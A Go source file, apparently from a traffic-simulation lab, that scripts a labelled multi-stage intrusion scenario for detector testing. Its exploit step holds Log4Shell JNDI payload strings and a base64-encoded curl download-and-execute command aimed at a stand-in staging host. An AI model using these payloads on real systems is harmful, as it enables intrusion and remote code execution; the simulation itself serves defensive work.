package lab

import (
	"encoding/base64"
	"fmt"
	"net/netip"
	"strings"
	"time"

	"github.com/tracer-framework/tracer/pkg/model"
)

// foes are the hosts of the intruder.
type foes struct {
	scanner, stager, c2, tunnel, c2late, names, drop *host
}

// Domains of the intruder.
const (
	domainC2     = "metrics-northstar.example"
	domainLate   = "assets-kestrel.example"
	domainTunnel = "zonesync-lumen.example"
	domainDrop   = "vault-heron.example"
)

func (w *world) foes() *foes {
	n := w.net
	f := &foes{
		scanner: n.outside("", "scanning host", RoleAttacker, "203.0.113.66", "", rawTool, 88*time.Millisecond),
		stager:  n.outside("", "staging server", RoleAttacker, "198.51.100.77", "", linux, 71*time.Millisecond),
		c2:      n.outside("cdn."+domainC2, "command and control", RoleC2, "198.51.100.23", "", linux, 64*time.Millisecond),
		tunnel:  n.outside("", "tunnel end", RoleC2, "198.51.100.201", "", linux, 65*time.Millisecond),
		c2late:  n.outside("static."+domainLate, "second command and control", RoleC2, "203.0.113.140", "", linux, 112*time.Millisecond),
		names:   n.outside("ns1."+domainTunnel, "name server of the DNS tunnel", RoleC2, "203.0.113.53", "", linux, 95*time.Millisecond),
		drop:    n.outside("eu."+domainDrop, "drop server", RoleExfil, "203.0.113.200", "", linux, 41*time.Millisecond),
	}
	registrar := n.outside("ns3.registrar.example", "name server", RoleBenign, "198.18.99.53", "", linux, 22*time.Millisecond)
	for domain, h := range map[string]*host{domainC2: f.c2, domainLate: f.c2late, domainDrop: f.drop} {
		w.zone.byName[domain] = &site{domain: domain, server: h, ns: registrar}
	}
	return f
}

// reconnaissance is the story of the scenario "scan-only".
func (w *world) reconnaissance() { w.scans(w.foes()) }

// intrusion tells the story of the scenario "intrusion". Hours count from the start:
//
//	0:42  an external host looks for services in the DMZ, 0:58 then at all ports of its web server
//	1:21  the web server is exploited (JNDI injection), calls back over LDAP and loads the implant
//	1:23  the implant reports every 60 s, shortened by up to 20 %, over TLS until the end
//	1:55  from the web server the internal networks are scanned for SMB, RDP and SSH
//	2:20  SSH to the application server; 2:50 SMB with service creation to the file server,
//	      which from then on is steered through a named pipe by the web server
//	3:05  a tunnel from the web server to the intruder stays open for 5.5 hours
//	4:10  remote desktop from the file server to the administrator's workstation, whose
//	      implant reports every 300 s to another server from 4:22
//	5:05  from there the directory is read, the domain controller taken over by SMB, and its
//	      secrets replicated
//	6:10  the application server leaks data in DNS queries for 20 minutes
//	8:05  the file server sends 30 MB to a drop server over HTTPS
func (w *world) intrusion() {
	f := w.foes()
	for _, h := range []*host{w.net.web, w.net.app, w.net.files, w.net.admin1} {
		h.role = RoleVictim
	}
	w.net.dc.role = RoleVictim // also the resolver that carries the tunnel
	w.scans(f)
	w.at(w.moment(1, 21, 0), func() { w.exploit(f) })
	w.beacons(f)
	w.at(w.moment(1, 55, 0), w.internalScan)
	w.at(w.moment(2, 20, 0), w.toApplication)
	w.at(w.moment(2, 50, 0), w.toFiles)
	w.at(w.moment(3, 5, 0), func() { w.longTunnel(f) })
	w.at(w.moment(4, 10, 0), w.toAdministrator)
	w.at(w.moment(5, 5, 0), w.toController)
	w.at(w.moment(6, 10, 0), func() { w.dnsTunnel(f) })
	w.at(w.moment(8, 5, 0), func() { w.exfiltration(f) })
}

// scans are the horizontal and the vertical scan from outside.
func (w *world) scans(f *foes) {
	n := w.net
	r := newRandom(w.seed, "scan")
	wide := w.step(Step{
		Phase: model.PhaseRecon, Technique: "T1595.001", From: f.scanner.ip, Proto: "tcp", Detector: "horizontal_scan",
		Description: "horizontal scan of the DMZ (10.20.50.0/24) on ports 80, 443, 22 and 8080",
	})
	deep := w.step(Step{
		Phase: model.PhaseRecon, Technique: "T1595.002", From: f.scanner.ip, To: n.web.ip, Proto: "tcp", Detector: "vertical_scan",
		Description: "vertical scan of the web server: 1100 ports",
	})
	probe := func(t int64, to *host, port uint16, step *Step, answers func(to *host, port uint16) bool, refuse float64) {
		c := w.syn(t, r, f.scanner, to, port, step)
		switch {
		case answers(to, port):
			c.turn(resp)
			c.segment(c.t, resp, tcpSYN|tcpACK, c.p[resp].seq, c.p[orig].seq+1, c.synOptions(resp, false), nil)
			c.p[orig].seq++
			c.turn(orig) // a scanner's kernel knows nothing of it
			c.p[orig].window = 0
			c.segment(c.t, orig, tcpRST, c.p[orig].seq, 0, nil, nil)
		case to.kind != "vacant" && r.chance(refuse):
			c.refuse()
		}
	}
	open := func(to *host, port uint16) bool {
		return to == n.web && (port == 80 || port == 443) || to == n.relay && port == 25
	}
	w.at(w.moment(0, 42, 10), func() {
		type target struct {
			last int
			port uint16
		}
		var list []target
		for last := 1; last < 255; last++ {
			for _, port := range []uint16{80, 443, 22, 8080} {
				list = append(list, target{last, port})
			}
		}
		shuffle(r, list)
		t := w.now
		for _, x := range list {
			to := n.vacant(50, x.last)
			switch x.last {
			case 10:
				to = n.web
			case 25:
				to = n.relay
			}
			probe(t, to, x.port, wide, open, 0)
			t += r.exp(55 * time.Millisecond)
		}
	})
	w.at(w.moment(0, 58, 30), func() {
		ports := []uint16{
			1433, 1521, 2049, 2375, 3000, 3306, 3389, 4444, 5000, 5432, 5601, 5672, 5900, 5985, 6379, 6443, 7001, 8000, 8008,
			8009, 8080, 8081, 8443, 8500, 8888, 9000, 9090, 9092, 9200, 9300, 9418, 10000, 10250, 11211, 15672, 27017, 28017, 50000, 50070,
		}
		for p := uint16(1); len(ports) < 1100; p++ {
			ports = append(ports, p)
		}
		shuffle(r, ports)
		t := w.now
		for _, p := range ports {
			probe(t, n.web, p, deep, open, 0.85)
			t += r.exp(170 * time.Millisecond)
		}
	})
}

// exploit is the injection, the call back and the download of the implant.
func (w *world) exploit(f *foes) {
	n := w.net
	r := newRandom(w.seed, "exploit")
	break1 := w.step(Step{
		Phase: model.PhaseExploit, Technique: "T1190", From: f.scanner.ip, To: n.web.ip, Port: 80, Proto: "tcp", Detector: "profile:log4shell", Edge: true,
		Description: "JNDI injection (as CVE-2021-44228) in HTTP headers and query of the public web server",
	})
	back := w.step(Step{
		Phase: model.PhaseExploit, Technique: "T1190", From: n.web.ip, To: f.stager.ip, Port: 1389, Proto: "tcp", Edge: true,
		Description: "the web server follows the injected reference: LDAP to the staging server",
	})
	load := w.step(Step{
		Phase: model.PhaseExploit, Technique: "T1105", From: n.web.ip, To: f.stager.ip, Port: 8000, Proto: "tcp", Detector: "profile:executable", Edge: true,
		Description: "the web server downloads a Java class and an ELF program over HTTP",
	})
	attacker := *f.scanner
	attacker.os = linux
	t := w.now
	code := base64.StdEncoding.EncodeToString([]byte("curl -s http://198.51.100.77:8000/upd/.x64 -o /tmp/.x64; chmod +x /tmp/.x64; /tmp/.x64 &"))
	for i, probe := range []string{
		"${jndi:ldap://198.51.100.77:1389/p}",
		"${${lower:j}ndi:${lower:l}dap://198.51.100.77:1389/p}",
		"${jndi:ldap://198.51.100.77:1389/Basic/Command/Base64/" + code + "}",
	} {
		c := w.tcp(t, r, &attacker, n.web, 80, break1)
		q := httpRequest{
			method: "GET", host: "www.northgate.example", path: "/search?q=" + pick(r, words), agent: "Mozilla/5.0 zgrab/0.x",
			headers: []string{"Accept: */*", "X-Api-Version: " + probe, "Referer: " + probe, "Connection: close"}, status: "200 OK",
			kind: "text/html; charset=utf-8", server: "Apache-Coyote/1.1", extra: []string{"Connection: close"}, answer: page(r, "Search", 2300),
		}
		if i == 2 {
			q.agent, q.path = probe, "/search?q="+strings.NewReplacer("{", "%7B", "}", "%7D", "$", "%24", "+", "%2B", "=", "%3D").Replace(probe)
		}
		c.http(q)
		c.fin(resp)
		t = c.t + r.think(14*time.Second, 0.4)
	}
	t -= 13 * second
	c := w.tcp(t, r, n.web, f.stager, 1389, back)
	c.send(orig, der(0x30, derInt(1), der(0x60, derInt(3), derOctets(""), der(0x80))))
	c.send(resp, der(0x30, derInt(1), der(0x61, der(10, []byte{0}), derOctets(""), derOctets(""))))
	name := "Basic/Command/Base64/" + code
	c.send(orig, der(0x30, derInt(2), der(0x63, derOctets(name), der(10, []byte{0}), der(10, []byte{3}), derInt(0), derInt(0), der(1, []byte{0}),
		der(0x87, []byte("objectClass")), der(0x30))))
	attr := func(k, v string) []byte { return der(0x30, derOctets(k), der(0x31, derOctets(v))) }
	entry := der(0x30, derInt(2), der(0x64, derOctets(name), der(0x30, attr("javaClassName", "foo"), attr("javaCodeBase", "http://198.51.100.77:8000/"),
		attr("objectClass", "javaNamingReference"), attr("javaFactory", "Exploit7hQx"))))
	c.send(resp, append(entry, der(0x30, derInt(2), der(0x65, der(10, []byte{0}), derOctets(""), derOctets("")))...))
	c.send(orig, der(0x30, derInt(3), der(0x42)))
	c.fin(orig)

	c = w.tcp(c.t+20*millisecond, r, n.web, f.stager, 8000, load)
	c.http(httpRequest{
		method: "GET", host: "198.51.100.77:8000", path: "/Exploit7hQx.class", agent: "Java/1.8.0_181",
		headers: []string{"Accept: text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2", "Connection: keep-alive"},
		status:  "200 OK", kind: "application/java-vm", server: "SimpleHTTP/0.6 Python/3.11.2", answer: r.append([]byte{0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34}, 1216),
	})
	c.fin(resp)
	c = w.tcp(c.t+900*millisecond, r, n.web, f.stager, 8000, load)
	c.http(httpRequest{
		method: "GET", host: "198.51.100.77:8000", path: "/upd/.x64", agent: "curl/7.74.0", headers: []string{"Accept: */*"},
		status: "200 OK", kind: "application/octet-stream", server: "SimpleHTTP/0.6 Python/3.11.2", answer: executable(r, 612*1024),
	})
	c.fin(resp)
}

// beacons are the reports of the two implants.
func (w *world) beacons(f *foes) {
	n := w.net
	report := func(h, c2 *host, name string, cl *client, modern bool, from int64, period time.Duration, jitter float64, step *Step) {
		r := newRandom(w.seed, "beacon "+h.name)
		chain := w.certs.selfSigned(name, 10)
		first := true
		w.every(from, func(t int64) int64 {
			next := t + int64(float64(period)*(1-jitter*r.float()))
			c := w.tcp(w.lookup(t, r, h, name), r, h, c2, 443, step)
			c.tls(tlsSession{client: cl, name: name, chain: chain, rsa: true, modern: modern, resume: !modern && !first && r.chance(0.85)})
			first = false
			c.app(orig, 284)
			c.pause(r.think(18*time.Millisecond, 0.4))
			if r.chance(0.06) { // a task: program down, result up
				c.app(resp, r.size(2600, 0.9, 400))
				c.pause(r.think(3*time.Second, 0.8))
				c.app(orig, r.size(5200, 1, 500))
			}
			c.app(resp, 148)
			c.bye(orig, modern)
			return next
		})
	}
	report(n.web, f.c2, "cdn."+domainC2, implant, false, w.moment(1, 23, 2), time.Minute, 0.2,
		w.step(Step{
			Phase: model.PhaseC2, Technique: "T1071.001", From: n.web.ip, To: f.c2.ip, Port: 443, Proto: "tcp", Domain: "cdn." + domainC2, Detector: "beacon", Edge: true,
			Description: "the implant reports every 60 s, shortened by up to 20 %, over TLS 1.2 with a self-signed certificate",
		}))
	report(n.admin1, f.c2late, "static."+domainLate, implantGo, true, w.moment(4, 22, 20), 5*time.Minute, 0.1,
		w.step(Step{
			Phase: model.PhaseC2, Technique: "T1071.001", From: n.admin1.ip, To: f.c2late.ip, Port: 443, Proto: "tcp", Domain: "static." + domainLate, Detector: "beacon", Edge: true,
			Description: "the implant on the administrator's workstation reports every 300 s, shortened by up to 10 %, over TLS 1.3",
		}))
}

// internalScan looks for ways on from the web server.
func (w *world) internalScan() {
	n := w.net
	r := newRandom(w.seed, "internal scan")
	step := w.step(Step{
		Phase: model.PhaseDiscovery, Technique: "T1046", From: n.web.ip, Proto: "tcp", Detector: "horizontal_scan",
		Description: "the web server scans 10.20.10.0/24 and 10.20.20.0/24 on ports 445, 3389 and 22",
	})
	known := map[netip.Addr]*host{}
	for _, h := range n.inside {
		known[h.ip] = h
	}
	t := w.now
	for _, port := range []uint16{445, 3389, 22} {
		for _, vlan := range []uint16{10, 20} {
			for last := 1; last < 255; last++ {
				to := n.vacant(vlan, last)
				if h := known[to.ip]; h != nil {
					to = h
				}
				c := w.syn(t, r, n.web, to, port, step)
				switch win := to.os == windows; {
				case to.kind == "vacant":
				case win && port == 445, win && port == 3389 && to != n.dc, !win && port == 22:
					c.accept()
					c.reset()
				default:
					c.refuse()
				}
				t += r.between(60*time.Millisecond, 180*time.Millisecond)
			}
		}
	}
}

// toApplication is SSH from the web server to the application server with a found key.
func (w *world) toApplication() {
	n := w.net
	r := newRandom(w.seed, "ssh")
	step := w.step(Step{
		Phase: model.PhaseTraversal, Technique: "T1021.004", From: n.web.ip, To: n.app.ip, Port: 22, Proto: "tcp", Detector: "profile:ssh", Edge: true,
		Description: "SSH from the web server to the application server with a stolen key",
	})
	c := w.tcp(w.now, r, n.web, n.app, 22, step)
	c.ssh(paramikoClient, opensshServer)
	c.typing(6 * minute)
	for range 9 { // the implant goes over
		c.send(orig, r.bytes(32768))
		c.send(resp, r.bytes(44))
	}
	c.typing(4 * minute)
	c.fin(orig)
}

// toFiles is SMB with remote service creation from the web server to the file server, and
// the named pipe by which it is steered afterwards.
func (w *world) toFiles() {
	n := w.net
	r := newRandom(w.seed, "smb")
	step := w.step(Step{
		Phase: model.PhaseTraversal, Technique: "T1021.002", From: n.web.ip, To: n.files.ip, Port: 445, Proto: "tcp", Edge: true,
		Description: "SMB to ADMIN$ of the file server, program copied and started as a service",
	})
	s := w.smb(w.now, r, n.web, n.files, "svc_backup", step)
	w.psexec(s, r, "wbengsvc.exe", 284*1024)
	s.end()

	pipe := w.step(Step{
		Phase: model.PhaseC2, Technique: "T1090.001", From: n.web.ip, To: n.files.ip, Port: 445, Proto: "tcp", Edge: true,
		Description: "the web server steers the file server's implant through a named pipe, about once a minute",
	})
	q := newRandom(w.seed, "pipe")
	var p *smbSession
	w.every(s.c.t+90*second, func(t int64) int64 {
		if p == nil {
			p = w.smb(t, q, n.web, n.files, "svc_backup", pipe)
			p.connect("IPC$")
			p.open("mojo.5688.8052.183894939787088877", 0x0012019f, 1, 0)
		}
		p.c.t = max(p.c.t, t)
		p.write(nil, 96)
		k := 64
		if q.chance(0.07) {
			k = q.size(3000, 0.8, 300)
		}
		p.read(k)
		p.c.rest()
		return t + q.between(48*time.Second, 60*time.Second)
	})
}

// psexec copies a program to ADMIN$ and starts it as a service ([MS-SCMR]).
func (w *world) psexec(s *smbSession, r *random, name string, size int) {
	s.connect("ADMIN$")
	s.open(name, 0x0012019f, 5, size)
	s.write([]byte("MZ\x90\x00\x03\x00\x00\x00"), size)
	s.close()
	s.c.pause(r.think(2*time.Second, 0.4))
	s.connect("IPC$")
	s.open("svcctl", 0x0012019f, 1, 0)
	s.rpc(rpcBind(rpcServices), rpcBound(`\PIPE\svcctl`))
	for i, op := range []uint16{15, 12, 19, 2, 0} { // OpenSCManager, CreateService, StartService, DeleteService, CloseServiceHandle
		s.rpc(rpcSealed(r, 0, uint32(i+2), op, 96+r.intn(200)), rpcSealed(r, 2, uint32(i+2), 0, 48))
		s.c.pause(r.think(200*time.Millisecond, 0.7))
	}
	s.close()
}

// longTunnel is the operator's reverse tunnel.
func (w *world) longTunnel(f *foes) {
	r := newRandom(w.seed, "tunnel")
	step := w.step(Step{
		Phase: model.PhaseC2, Technique: "T1572", From: w.net.web.ip, To: f.tunnel.ip, Port: 8443, Proto: "tcp", Detector: "long_connection", Edge: true,
		Description: "reverse tunnel over TLS without a server name, open for 5.5 hours, used in bursts",
	})
	c := w.tcp(w.now, r, w.net.web, f.tunnel, 8443, step)
	c.tls(tlsSession{client: golang, modern: true})
	c.rest()
	until := c.t + 5*hour + 30*minute
	w.every(c.t+second, func(t int64) int64 {
		c.t = max(c.t, t)
		if c.t > until {
			c.bye(resp, true)
			return w.end
		}
		if hours := (c.t - w.start) / (5 * minute); hours%11 == 1 || hours%11 == 2 { // the operator works
			for range r.span(2, 9) {
				c.app(resp, r.span(60, 300))
				c.app(orig, r.size(900, 1, 90))
				c.pause(r.think(400*time.Millisecond, 0.8))
			}
			c.rest()
			return c.t + r.think(8*time.Second, 0.6)
		}
		c.app(orig, 34)
		c.app(resp, 34)
		c.rest()
		return t + 30*second + r.between(0, 200*time.Millisecond)
	})
}

// toAdministrator is remote desktop from the file server to an administrator.
func (w *world) toAdministrator() {
	n := w.net
	r := newRandom(w.seed, "desktop")
	step := w.step(Step{
		Phase: model.PhaseTraversal, Technique: "T1021.001", From: n.files.ip, To: n.admin1.ip, Port: 3389, Proto: "tcp", Edge: true,
		Description: "remote desktop from the file server to the administrator's workstation",
	})
	w.rdp(w.now, r, n.files, n.admin1, "svc_backup", 9*minute, step)
}

// toController reads the directory, takes over the domain controller and replicates its
// secrets.
func (w *world) toController() {
	n := w.net
	r := newRandom(w.seed, "controller")
	read := w.step(Step{
		Phase: model.PhaseDiscovery, Technique: "T1087.002", From: n.admin1.ip, To: n.dc.ip, Port: 389, Proto: "tcp", Edge: true,
		Description: "the whole directory is read over LDAP",
	})
	move := w.step(Step{
		Phase: model.PhaseTraversal, Technique: "T1021.002", From: n.admin1.ip, To: n.dc.ip, Port: 445, Proto: "tcp", Edge: true,
		Description: "SMB to ADMIN$ of the domain controller, program copied and started as a service",
	})
	sync := w.step(Step{
		Phase: model.PhaseCredential, Technique: "T1003.006", From: n.admin1.ip, To: n.dc.ip, Port: 49667, Proto: "tcp", Edge: true,
		Description: "directory replication (DRSGetNCChanges) asked by a workstation",
	})
	t := w.ldap(w.now, r, n.admin1, 900, read)
	w.at(t+11*minute, func() {
		s := w.smb(w.now, r, n.admin1, n.dc, "admin", move)
		w.psexec(s, r, "dfsrsvc.exe", 296*1024)
		s.end()
		w.at(s.c.t+7*minute, func() { w.replicate(r, sync) })
	})
}

// replicate is the exchange of [MS-DRSR].
func (w *world) replicate(r *random, step *Step) {
	n := w.net
	c := w.tcp(w.now, r, n.admin1, n.dc, 135, step)
	c.send(orig, rpcBind(rpcMapper))
	c.send(resp, rpcBound("135"))
	c.send(orig, rpcSealed(r, 0, 2, 3, 160))
	c.send(resp, rpcSealed(r, 2, 2, 0, 160))
	c.fin(orig)
	c = w.tcp(c.t+2*millisecond, r, n.admin1, n.dc, 49667, step)
	c.send(orig, rpcBind(rpcReplication))
	c.send(resp, rpcBound("49667"))
	for i, op := range []uint16{0, 16, 12} { // DRSBind, DRSDomainControllerInfo, DRSCrackNames
		c.send(orig, rpcSealed(r, 0, uint32(i+2), op, 200))
		c.send(resp, rpcSealed(r, 2, uint32(i+2), 0, 320))
	}
	for i := range uint32(260) { // DRSGetNCChanges, one account each
		c.send(orig, rpcSealed(r, 0, i+5, 3, 480))
		c.pause(r.think(2*time.Millisecond, 0.5))
		c.send(resp, rpcSealed(r, 2, i+5, 0, r.span(2200, 4200)))
	}
	c.fin(orig)
}

// dnsTunnel leaks data of the application server in names below one domain.
func (w *world) dnsTunnel(f *foes) {
	n := w.net
	r := newRandom(w.seed, "dns tunnel")
	step := w.step(Step{
		Phase: model.PhaseExfil, Technique: "T1048.003", From: n.app.ip, To: f.names.ip, Port: 53, Proto: "udp", Domain: domainTunnel, Via: []netip.Addr{n.dc.ip},
		Detector: "dns_tunnel", Edge: true, Description: "data in DNS queries (TXT and NULL) through the company's resolver, about 10 queries a second for 20 minutes",
	})
	c := w.between(w.now, r, n.app, n.dc, protoUDP, false)
	c.step, c.last = step, orig
	c.p[orig].port, c.p[resp].port = n.app.ephemeral(r), 53
	until := c.t + 20*minute
	serial := r.intn(4096)
	w.every(c.t, func(t int64) int64 {
		if t >= until {
			return w.end
		}
		c.t, c.last = max(c.t, t), orig
		serial++
		name := fmt.Sprintf("%04x%s.%s.t.%s", serial&0xffff, r.text(52, base32Set), r.text(r.span(20, 56), base32Set), domainTunnel)
		kind, data := uint16(typeTXT), txt(r.text(r.span(24, 160), base32Set))
		if r.chance(0.3) {
			kind, data = typeNull, r.bytes(r.span(16, 120))
		}
		list := []record{{name, kind, 0, data}}
		id := r.u16()
		c.datagram(orig, appendQuery(nil, id, kind, name, true, true))
		c.t = w.upstream(c.t+c.p[resp].lag, r, name, kind, dnsNoError, list, f.names, step)
		c.datagram(resp, appendAnswer(nil, id, kind, name, false, true, dnsNoError, list))
		return t + r.between(40*time.Millisecond, 160*time.Millisecond)
	})
}

// exfiltration uploads the collected files in parts.
func (w *world) exfiltration(f *foes) {
	n := w.net
	r := newRandom(w.seed, "exfiltration")
	name := "eu." + domainDrop
	step := w.step(Step{
		Phase: model.PhaseExfil, Technique: "T1048.002", From: n.files.ip, To: f.drop.ip, Port: 443, Proto: "tcp", Domain: name, Edge: true,
		Description: "30 MB uploaded over HTTPS in six parts",
	})
	left := 30_000_000
	parts := 6
	w.every(w.now, func(t int64) int64 {
		if parts == 0 {
			return w.end
		}
		size := left / parts
		if parts > 1 {
			size = int(float64(size) * (0.8 + 0.4*r.float()))
		}
		left, parts = left-size, parts-1
		c := w.tcp(w.lookup(t, r, n.files, name), r, n.files, f.drop, 443, step)
		c.p[orig].rate = 9e6
		c.tls(tlsSession{client: golang, name: name, modern: true, hybrid: true})
		c.app(orig, 540)
		for size > 0 {
			k := min(size, 512<<10)
			c.app(orig, k)
			size -= k
			c.pause(r.think(50*time.Millisecond, 0.8))
		}
		c.app(resp, 310)
		c.bye(orig, true)
		return c.t + r.think(2*time.Minute, 0.5)
	})
}
